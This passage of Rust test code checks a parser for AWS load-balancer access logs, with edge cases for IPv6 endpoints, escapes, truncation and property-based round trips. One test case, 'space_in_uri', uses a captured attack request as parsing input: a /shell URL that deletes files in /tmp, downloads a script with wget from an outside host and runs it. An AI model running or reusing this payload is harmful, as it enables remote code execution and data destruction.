                    "2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718",
                ),
                |e| {
                    assert_eq!(
                        e.client,
                        Some(Endpoint {
                            ip: "2a02:a33c:4538:1:bcf4:5264:e01c:f215",
                            port: 50718
                        })
                    )
                },
            ),
            (
                "ipv6_client_with_brackets",
                with("192.168.131.39:2817", "[fe80::1]:443"),
                |e| {
                    assert_eq!(
                        e.client,
                        Some(Endpoint {
                            ip: "fe80::1",
                            port: 443
                        })
                    )
                },
            ),
            (
                "utf8_escapes_in_url",
                with(
                    "http://www.example.com:80/",
                    "http://www.example.com:80/\\xE6\\x97\\xA5?q=\\xC3\\x88",
                ),
                |e| {
                    assert_eq!(
                        e.request.url.as_deref(),
                        Some("http://www.example.com:80/日?q=È")
                    );
                    assert_eq!(e.request.method, Some("GET"));
                },
            ),
            (
                "space_in_uri",
                with(
                    "http://www.example.com:80/",
                    "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                ),
                |e| {
                    assert_eq!(
                        e.request,
                        Request {
                            method: Some("GET"),
                            url: Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws".into()),
                            protocol: Some("HTTP/1.1"),
                            raw: None,
                        }
                    )
                },
            ),
            (
                "no_request_line",
                with("GET http://www.example.com:80/ HTTP/1.1", "- - - "),
                |e| {
                    assert_eq!(
                        e.request,
                        Request {
                            raw: Some("- - - ".into()),
                            ..Request::default()
                        }
                    )
                },
            ),
            (
                "malformed_request_dash_glued_to_port",
                with(
                    "GET http://www.example.com:80/ HTTP/1.1",
                    "- http://www.example.com:80- -",
                ),
                |e| {
                    assert_eq!(
                        e.request.raw.as_deref(),
                        Some("- http://www.example.com:80- -")
                    )
                },
            ),
            (
                "target_dash_for_lambda",
                with("10.0.0.1:80 0.000", "- 0.000")
                    .replace(r#""10.0.0.1:80" "200""#, r#""-" "-""#),
                |e| {
                    assert_eq!(e.target, None);
                    assert_eq!(e.target_port_list, None);
                    assert_eq!(e.target_status_code_list, None);
                },
            ),
            (
                "all_minus_one_timings",
                with("0.000 0.001 0.000 200 200", "-1 -1 -1 502 -"),
                |e| {
                    assert_eq!(
                        (
                            e.request_processing_time,
                            e.target_processing_time,
                            e.response_processing_time
                        ),
                        (None, None, None)
                    );
                    assert_eq!((e.elb_status_code, e.target_status_code), (Some(502), None));
                },
            ),
            (
                "ends_at_trace_id",
                HTTP[..HTTP.find(r#" "-" "-" 0"#).unwrap()].to_string(),
                |e| {
                    assert_eq!(
                        e.trace_id.as_deref(),
                        Some("Root=1-58337262-36d228ad5d99923122bbe354")
                    );
                    assert_eq!(
                        (e.matched_rule_priority, e.request_creation_time),
                        (None, None)
                    );
                },
            ),
            (
                "ends_at_error_reason",
                HTTP[..HTTP.find(r#" "10.0.0.1:80" "200""#).unwrap()].to_string(),
                |e| {
                    assert_eq!(e.actions_executed.as_deref(), Some("forward"));
                    assert_eq!(e.error_reason, None);
                    assert_eq!(e.target_port_list, None);
                },
            ),
            (
                "ends_at_target_status_code_list",
                HTTP.strip_suffix(r#" "-" "-""#).unwrap().to_string(),
                |e| {
                    assert_eq!(e.target_status_code_list.as_deref(), Some("200"));
                    assert_eq!(e.classification, None);
                },
            ),
            (
                "session_reused_cert_and_rule_error",
                with(r#""-" "-" 0 "#, r#""example.com" "session-reused" -1 "#),
                |e| {
                    assert_eq!(e.chosen_cert_arn.as_deref(), Some("session-reused"));
                    assert_eq!(e.matched_rule_priority, Some(-1));
                },
            ),
            ("crlf", format!("{HTTP}\r\n"), |e| {
                assert_eq!(e.classification_reason, None)
            }),
            (
                "conn_trace_id_then_transforms_then_unknown",
                format!(
                    "{HTTP} TID_1234abcd5678ef90 \"h.example\" \"/new\" \"TransformSuccess\" 10.1.2.3 \"-\""
                ),
                |e| {
                    assert_eq!(e.conn_trace_id, Some("TID_1234abcd5678ef90"));
                    assert_eq!(e.transformed_host.as_deref(), Some("h.example"));
                    assert_eq!(e.transformed_uri.as_deref(), Some("/new"));
                    assert_eq!(
                        e.request_transform_status.as_deref(),
                        Some("TransformSuccess")
                    );
                    assert_eq!(e.extra, vec![Cow::Borrowed("10.1.2.3"), Cow::Borrowed("-")]);
                },
            ),
            (
                "huge_user_agent",
                with("curl/7.46.0", &"A".repeat(1 << 20)),
                |e| assert_eq!(e.user_agent.as_deref().map(str::len), Some(1 << 20)),
            ),
            (
                "non_ascii_raw_bytes_lossy_decoded",
                {
                    let raw: Vec<u8> = with("curl/7.46.0", "caf\u{1}")
                        .bytes()
                        .map(|b| if b == 1 { 0xE9 } else { b })
                        .collect();
                    String::from_utf8_lossy(&raw).into_owned()
                },
                |e| assert_eq!(e.user_agent.as_deref(), Some("caf\u{fffd}")),
            ),
        ];
        for (name, line, check) in cases {
            match parse_line(&line) {
                Ok(entry) => check(&entry),
                Err(e) => panic!("{name}: {e}"),
            }
        }
    }

    #[test]
    fn error_table() {
        let cases: Vec<(&str, String, ParseError)> = vec![
            ("empty_line", String::new(), ParseError::Empty),
            ("only_line_end", "\r\n".into(), ParseError::Empty),
            (
                "ends_before_trace_id",
                HTTP[..HTTP.find(r#" "Root="#).unwrap()].to_string(),
                ParseError::MissingField("trace_id"),
            ),
            ("only_type", "http".into(), ParseError::MissingField("time")),
            (
                "bad_time",
                with("2018-07-02T22:23:00.186641Z", "yesterday"),
                ParseError::invalid("time", "yesterday"),
            ),
            (
                "bad_port",
                with(":2817", ":99999"),
                ParseError::invalid("client:port", "192.168.131.39:99999"),
            ),
            (
                "bad_timing",
                with("0.001", "fast"),
                ParseError::invalid("target_processing_time", "fast"),
            ),
            (
                "unterminated_user_agent",
                HTTP[..HTTP.find("curl/7").unwrap() + 4].to_string(),
                ParseError::Unterminated("user_agent"),
            ),
            (
                "control_line_is_not_an_entry",
                "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z"
                    .into(),
                ParseError::invalid("time", "AccessLog"),
            ),
        ];
        for (name, line, want) in cases {
            assert_eq!(parse_line(&line), Err(want), "{name}");
        }
    }

    #[test]
    fn every_prefix_is_handled() {
        let long = format!("{HTTP} TID_1234abcd5678ef90 \"-\" \"-\" \"-\" extra");
        for (cut, _) in long.char_indices() {
            match parse_line(&long[..cut]) {
                Ok(entry) => assert!(
                    cut >= HTTP.find(r#" "-" "-" 0"#).unwrap(),
                    "{cut}: {entry:?}"
                ),
                Err(ParseError::Empty) => assert_eq!(cut, 0),
                Err(
                    ParseError::MissingField(name)
                    | ParseError::Unterminated(name)
                    | ParseError::InvalidField { field: name, .. },
                ) => assert!(!name.is_empty()),
                Err(other) => panic!("{cut}: {other}"),
            }
        }
    }

    #[test]
    fn thousandths_are_written_as_serde_json_writes_them() {
        let check = |v: f64| {
            let mut fast = String::new();
            if write_thousandths(&mut fast, v) {
                let serde = serde_json::to_string(&v).unwrap();
                assert_eq!(fast, serde, "{v}");
            }
        };
        // Every ALB time up to 2,000 s, then a spread up to the limit.
        for n in 0..2_000_000u64 {
            check(n as f64 / 1000.0);
        }
        for n in (2_000_000..1_000_000_000u64).step_by(999_983) {
            check(n as f64 / 1000.0);
        }
        let mut out = String::new();
        for v in [
            -0.0,
            -1.0,
            0.0001,
            0.0005,
            1e6,
            f64::NAN,
            f64::INFINITY,
            1.0 / 3.0,
        ] {
            assert!(!write_thousandths(&mut out, v), "{v}");
        }
        assert!(out.is_empty());
        for (v, text) in [
            (0.0, "0.0"),
            (0.05, "0.05"),
            (12.345, "12.345"),
            (3.0, "3.0"),
        ] {
            let mut out = String::new();
            assert!(write_thousandths(&mut out, v));
            assert_eq!(out, text);
        }
    }

    #[test]
    fn control_lines() {
        assert!(is_control_line(
            "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z"
        ));
        assert!(is_control_line(
            "Enable ConnectionLog for ELB: app/x/y at 2025-05-30T16:47:00.781Z"
        ));
        assert!(!is_control_line(HTTP));
        assert!(!is_control_line("Enable something else"));
    }

    #[test]
    fn record_drops_lists_that_repeat_the_single_value() {
        let entry = parse_line(HTTP).unwrap();
        let record = entry.to_record();
        assert_eq!(
            (record.target_list, record.target_status_list),
            (None, None)
        );
        let line = with(
            r#""10.0.0.1:80" "200""#,
            r#""10.0.0.1:80 10.0.0.2:80" "200 503""#,
        );
        let record = parse_line(&line).unwrap().to_record();
        assert_eq!(
            record.target_list.as_deref(),
            Some("10.0.0.1:80 10.0.0.2:80")
        );
        assert_eq!(record.target_status_list.as_deref(), Some("200 503"));
    }

    /// Writes a quoted field the way ALB does: `"`, `\`, controls and non-ASCII as `\xNN`.
    fn quote(value: Option<&str>) -> String {
        let Some(value) = value else {
            return "\"-\"".into();
        };
        let mut out = String::from("\"");
        for b in value.bytes() {
            if b == b'"' || b == b'\\' || !(0x20..0x7f).contains(&b) {
                out.push_str(&format!("\\x{b:02x}"));
            } else {
                out.push(b as char);
            }
        }
        out.push('"');
        out
    }

    fn bare<T: ToString>(value: Option<T>) -> String {
        value.map_or_else(|| "-".into(), |v| v.to_string())
    }

    fn time(us: i64) -> String {
        let ts = jiff::Timestamp::from_microsecond(us).unwrap();
        ts.strftime("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()
    }

    fn render(e: &AlbEntry<'_>) -> String {
        let ep = |e: Option<Endpoint<'_>>| e.map_or("-".into(), |e| format!("{}:{}", e.ip, e.port));
        let secs = |s: Option<f64>| s.map_or("-1".into(), |s| format!("{s:.3}"));
        let request = match (&e.request.method, &e.request.url, &e.request.protocol) {
            (Some(m), Some(u), Some(p)) => format!("{m} {u} {p}"),
            _ => e.request.raw.as_deref().unwrap_or("-").to_string(),
        };
        let mut fields = vec![
            e.kind.to_string(),
            time(e.time),
            e.elb.to_string(),
            ep(e.client),
            ep(e.target),
            secs(e.request_processing_time),
            secs(e.target_processing_time),
            secs(e.response_processing_time),
            bare(e.elb_status_code),
            bare(e.target_status_code),
            bare(e.received_bytes),
            bare(e.sent_bytes),
            quote(Some(&request)),
            quote(e.user_agent.as_deref()),
            bare(e.ssl_cipher),
            bare(e.ssl_protocol),
            bare(e.target_group_arn),
            quote(e.trace_id.as_deref()),
            quote(e.domain_name.as_deref()),
            quote(e.chosen_cert_arn.as_deref()),
            bare(e.matched_rule_priority),
            e.request_creation_time.map_or("-".into(), time),
            quote(e.actions_executed.as_deref()),
            quote(e.redirect_url.as_deref()),
            quote(e.error_reason.as_deref()),
            quote(e.target_port_list.as_deref()),
            quote(e.target_status_code_list.as_deref()),
            quote(e.classification.as_deref()),
            quote(e.classification_reason.as_deref()),
            bare(e.conn_trace_id),
            quote(e.transformed_host.as_deref()),
            quote(e.transformed_uri.as_deref()),
            quote(e.request_transform_status.as_deref()),
        ];
        fields.extend(e.extra.iter().map(|x| quote(Some(x))));
        fields.join(" ")
    }

    /// A value that is not `-`/empty and has no space (for unquoted fields).
    fn token() -> impl Strategy<Value = String> {
        "[A-Za-z0-9_./:=-]{2,20}"
    }

    /// Any text for a quoted field, except the `-` that means absent.
    fn text() -> impl Strategy<Value = Option<String>> {
        prop::option::of("\\PC{1,30}".prop_filter("dash means absent", |s| s != "-"))
    }

    fn endpoint() -> impl Strategy<Value = Option<(String, u16)>> {
        prop::option::of((
            prop_oneof![
                "[0-9]{1,3}(\\.[0-9]{1,3}){3}",
                "[0-9a-f]{1,4}(:[0-9a-f]{0,4}){2,7}"
            ],
            any::<u16>(),
        ))
    }

    fn secs() -> impl Strategy<Value = Option<f64>> {
        prop::option::of((0u32..100_000).prop_map(|ms| f64::from(ms) / 1000.0))
    }

    fn status() -> impl Strategy<Value = Option<u16>> {
        prop::option::of(100u16..600)
    }

    fn us() -> impl Strategy<Value = i64> {
        0i64..4_102_444_800_000_000
    }

    proptest! {
        #[test]
        fn decimal_fast_path_equals_str_parse(text in "[0-9]{1,9}(\\.[0-9]{0,9})?") {
            if let Some(fast) = crate::scan::decimal(&text) {
                prop_assert_eq!(fast.to_bits(), text.parse::<f64>().unwrap().to_bits(), "{}", text);
            }
        }

        #[test]
        fn endpoint_and_number_readers_equal_the_std_parsers(text in "[0-9:\\[\\]a-f.+-]{0,10}") {
            // Endpoint: split on the last colon, brackets stripped, port by `str::parse`.
            let reference = text.rfind(':').and_then(|colon| {
                let (ip, port) = (&text[..colon], &text[colon + 1..]);
                let ip = ip.strip_prefix('[').and_then(|ip| ip.strip_suffix(']')).unwrap_or(ip);
                (!ip.is_empty() && port.bytes().all(|b| b.is_ascii_digit()))
                    .then(|| port.parse::<u16>().ok().map(|port| Endpoint { ip, port }))
                    .flatten()
            });
            prop_assert_eq!(Endpoint::parse(&text), reference);
            let field = Field { text: &text, quoted: false };
            let digits = text.bytes().all(|b| b.is_ascii_digit());
            let std16 = (digits && text != "-").then(|| text.parse::<u16>().ok()).flatten();
            let std64 = (digits && text != "-").then(|| text.parse::<u64>().ok()).flatten();
            match field.value() {
                None => prop_assert_eq!(field.number::<u16>("n"), Ok(None)),
                Some(_) => {
                    prop_assert_eq!(field.number::<u16>("n").ok().flatten(), std16);
                    prop_assert_eq!(field.number::<u64>("n").ok().flatten(), std64);
                }
            }
        }

        #[test]
        fn never_panics(line in ".*") {
            let _ = parse_line(&line);
            let _ = parse_record(&line);
            let _ = is_control_line(&line);
        }

        #[test]
        fn direct_json_equals_serde_json(ua in any::<String>(), sent in any::<u64>(), dt in any::<u32>()) {
            let line = with(r#""curl/7.46.0""#, &quote(Some(&ua)))
                .replacen(" 366 ", &format!(" {sent} "), 1)
                .replacen(" 0.001 ", &format!(" {}.{:03} ", dt / 1000, dt % 1000), 1);
            let entry = parse_line(&line).unwrap();
            let mut fast = String::new();
            entry.write_record_json(&mut fast);
            let serde = Record::Alb(entry.to_record()).to_json();
            prop_assert_eq!(&fast, &serde);
            let mut direct = String::new();
            prop_assert_eq!(line_to_json(&line, &mut direct), Ok(entry.record_time()));
            prop_assert_eq!(direct, serde);
        }

        #[test]
        fn never_panics_on_near_valid_lines(cut in 0usize..400, junk in "[ \"\\\\x0-9a-f-]{0,12}") {
            let mut line = HTTP.to_string();
            let at = cut.min(line.len());
            line.insert_str(at, &junk);
            let _ = parse_line(&line).map(|e| e.to_record());
        }

        #[test]
        fn direct_json_equals_serde_json_on_mangled_lines(
            cut in 0usize..420,
            junk in "([ \"\\\\x0-9a-fA-F:./=-]|\\PC){0,16}",
            tail in prop::collection::vec("(-|\\PC{0,8}|\"\\PC{0,8}\")", 0..6),
        ) {
            let mut line = format!("{HTTP} {}", tail.join(" "));
            let mut at = cut.min(line.len());
            while !line.is_char_boundary(at) {
                at -= 1;
            }
            line.insert_str(at, &junk);
            let mut direct = String::new();
            let direct_time = line_to_json(&line, &mut direct);
            if let Ok(entry) = parse_line(&line) {
                let mut fast = String::new();
                entry.write_record_json(&mut fast);
                let serde = Record::Alb(entry.to_record()).to_json();
                prop_assert_eq!(&fast, &serde, "{}", line);
                prop_assert_eq!(direct_time, Ok(entry.record_time()));
                prop_assert_eq!(direct, serde, "{}", line);
            } else {
                prop_assert!(direct_time.is_err() && direct.is_empty(), "{}", line);
            }
        }

        #[test]
        fn render_then_parse_gives_back_the_entry(
            kind in "(http|https|h2|grpcs|ws|wss)",
            times in (us(), prop::option::of(us())),
            elb in token(),
            ends in (endpoint(), endpoint()),
            timings in (secs(), secs(), secs()),
            statuses in (status(), status()),
            bytes in (prop::option::of(any::<u64>()), prop::option::of(any::<u64>())),
            request in ("[A-Z]{3,7}", "[!-~]{1,20}( [!-~]{1,10})?", "HTTP/[12]\\.[01]"),
            texts in prop::collection::vec(text(), 14),
            tokens in prop::collection::vec(prop::option::of(token()), 4),
            rule in prop::option::of(-1i32..50_000),
            extra in prop::collection::vec("\\PC{0,10}", 0..3),
        ) {
            let client = ends.0.as_ref().map(|(ip, port)| Endpoint { ip, port: *port });
            let target = ends.1.as_ref().map(|(ip, port)| Endpoint { ip, port: *port });
            let t = |i: usize| texts[i].as_deref().map(Cow::Borrowed);
            let entry = AlbEntry {
                kind: &kind,
                time: times.0,
                elb: &elb,
                client,
                target,
                request_processing_time: timings.0,
                target_processing_time: timings.1,
                response_processing_time: timings.2,
                elb_status_code: statuses.0,
                target_status_code: statuses.1,
                received_bytes: bytes.0,
                sent_bytes: bytes.1,
                request: Request {
                    method: Some(&request.0),
                    url: Some(Cow::Borrowed(&request.1)),
                    protocol: Some(&request.2),
                    raw: None,
                },
                user_agent: t(0),
                ssl_cipher: tokens[0].as_deref(),
                ssl_protocol: tokens[1].as_deref(),
                target_group_arn: tokens[2].as_deref(),
                trace_id: t(1),
                domain_name: t(2),
                chosen_cert_arn: t(3),
                matched_rule_priority: rule,
                request_creation_time: times.1,
                actions_executed: t(4),
                redirect_url: t(5),
                error_reason: t(6),
                target_port_list: t(7),
                target_status_code_list: t(8),
                classification: t(9),
                classification_reason: t(10),
                conn_trace_id: tokens[3].as_deref(),
                transformed_host: t(11),
                transformed_uri: t(12),
                request_transform_status: t(13),
                extra: extra.iter().map(|x| Cow::Borrowed(x.as_str())).collect(),
            };
            let line = render(&entry);
            let mut fast = String::new();
            entry.write_record_json(&mut fast);
            let serde = Record::Alb(entry.to_record()).to_json();
            prop_assert_eq!(&fast, &serde);
            let mut direct = String::new();
            prop_assert_eq!(line_to_json(&line, &mut direct), Ok(entry.record_time()));
            prop_assert_eq!(direct, serde, "{}", line);
            prop_assert_eq!(parse_line(&line), Ok(entry), "{}", line);
        }
    }
}
